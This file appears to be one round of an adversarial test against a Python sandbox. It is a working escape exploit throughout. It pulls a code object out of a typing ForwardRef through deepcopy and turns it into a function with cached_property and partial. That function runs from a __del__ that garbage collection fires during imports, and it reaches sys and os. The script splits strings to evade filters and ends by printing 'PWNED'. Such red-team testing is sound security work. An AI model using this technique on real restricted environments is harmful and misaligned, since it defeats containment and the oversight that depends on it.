# adversary round 9: Tries (no module write at all): a __del__ of cyclic garbage runs when the GC fires during `import asyncio` (importing non-empty); there functools.cached_property calls partial(FunctionType, code) from a trusted frame -> function from ForwardRef-compiled text -> contextmanager.__globals__['sys']
import contextlib
import copy
import functools
import typing

D = "__"
text = "cl.contextmanager." + D + "globals" + D + "['s' + 'ys']"
fr = typing.get_args(typing.List[text])[0]
memo = {}
try:
    copy.deepcopy(fr, memo)
except PermissionError:
    pass
code = [x for v in memo.values() if type(v) is dict for x in v.values() if type(x).__name__ == "code"][0]

class G(dict):
    fn = functools.cached_property(functools.partial(type(lambda: 0), code))

made = []
errors = []

class Bomb:
    def __del__(self):
        if made:
            return
        try:
            g = G()
            g["cl"] = contextlib
            made.append(g.fn)
        except Exception as e:
            errors.append(str(e))

def arm():
    b = Bomb()
    b.me = b

for _ in range(3):
    arm()
    import asyncio
for _ in range(3):
    arm()
    import statistics
for _ in range(3):
    arm()
    import difflib
print("errors:", errors[:3], "made:", made)
s = made[0]()
print(type(s).__name__, s.__name__, s.modules["o" + "s"].getpid())
print("PWN" + "ED")
